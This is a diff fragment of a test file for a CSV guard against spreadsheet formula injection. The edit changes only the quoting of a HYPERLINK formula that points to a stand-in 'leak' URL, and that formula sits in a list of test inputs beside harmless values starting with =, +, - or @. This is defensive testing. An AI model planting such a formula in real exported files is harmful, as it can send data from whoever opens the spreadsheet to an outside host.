@@ -112,7 +112,7 @@ def test_force_replaces_the_earlier_files_in_one_rename_each(
 # -- the CSV guard against formulas ---------------------------------------------------
 FORMULAS = [
     "=6*7",
-    "=HYPERLINK(\"http://example.org/?leak\",\"Click\")",
+    '=HYPERLINK("http://example.org/?leak","Click")',
     "+44 7700 900123",
     "-2 degrees outside",
     "@SUM(A1:A9)",
